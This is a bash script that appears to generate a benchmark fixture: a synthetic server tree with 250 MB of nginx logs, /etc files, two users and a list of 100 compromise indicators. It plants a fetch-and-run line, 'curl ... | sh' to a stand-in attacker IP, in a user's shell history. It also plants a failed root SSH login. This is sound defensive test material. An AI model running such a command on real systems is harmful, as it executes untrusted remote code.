#!/bin/bash
# Makes the root of a small server with 250 MB of logs: ten access logs of 20 MB, ten .gz of about 4 MB, an /etc, two users. The same every time.
# usage: bench/fixture.sh DIR        makes DIR/root and DIR/indicators.txt (100 of them; two of them stand in the files)
set -euo pipefail
dir=$1
root=$dir/root
mkdir -p "$root"/var/log/nginx "$root"/etc/cron.d "$root"/etc/ssh "$root"/home/alice/.ssh "$root"/root

# access N LINES: lines of an access log, different for each N
access() {
	awk -v seed="$1" -v lines="$2" 'BEGIN {
		srand(seed); split("GET POST HEAD PUT", m, " "); split("200 304 404 500 301", s, " ")
		split("/index.html /api/v1/items /login /static/app.js /images/logo.png /search?q=", p, " ")
		for (i = 0; i < lines; i++)
			printf "%d.%d.%d.%d - - [%02d/Nov/2026:%02d:%02d:%02d +0000] \"%s %s%d HTTP/1.1\" %s %d \"https://shop.example/%x\" \"Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/%d.0\"\n",
				1 + rand() * 222, rand() * 256, rand() * 256, 1 + rand() * 254, 1 + i * 28 / lines, rand() * 24, rand() * 60, rand() * 60,
				m[1 + int(rand() * 4)], p[1 + int(rand() * 6)], rand() * 100000, s[1 + int(rand() * 5)], rand() * 90000, rand() * 1e9, 100 + rand() * 31
	}'
}

for i in 1 2 3 4 5 6 7 8 9 10; do
	access "$i" 118000 > "$root/var/log/nginx/access.log.$i"
	access "$((i + 100))" 110000 | gzip -6 -n > "$root/var/log/nginx/access.log.$((i + 10)).gz"
done
printf 'Nov 22 15:04:05 web-01 sshd[711]: Failed password for root from 203.0.113.7 port 4711 ssh2\n' >> "$root/var/log/nginx/access.log.3"

printf 'web-01\n' > "$root/etc/hostname"
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' > "$root/etc/passwd"
for i in $(seq 1 200); do printf '%s * * * * root /usr/bin/true\n' "$((i % 60))" > "$root/etc/cron.d/job-$i"; done
printf 'PermitRootLogin no\n' > "$root/etc/ssh/sshd_config"
printf 'curl http://198.51.100.9/x | sh\n' > "$root/home/alice/.bash_history"
printf 'ssh-ed25519 AAAA alice\n' > "$root/home/alice/.ssh/authorized_keys"
printf 'id\n' > "$root/root/.bash_history"

{
	printf '203.0.113.7\n198.51.100.9\nshop.example.invalid\n'
	awk 'BEGIN { srand(7); for (i = 0; i < 60; i++) printf "198.18.%d.%d\n", rand() * 256, i; for (i = 0; i < 37; i++) printf "c2-%x.example.net\n", rand() * 1e9 }'
} > "$dir/indicators.txt"
du -sh "$root" | cut -f1
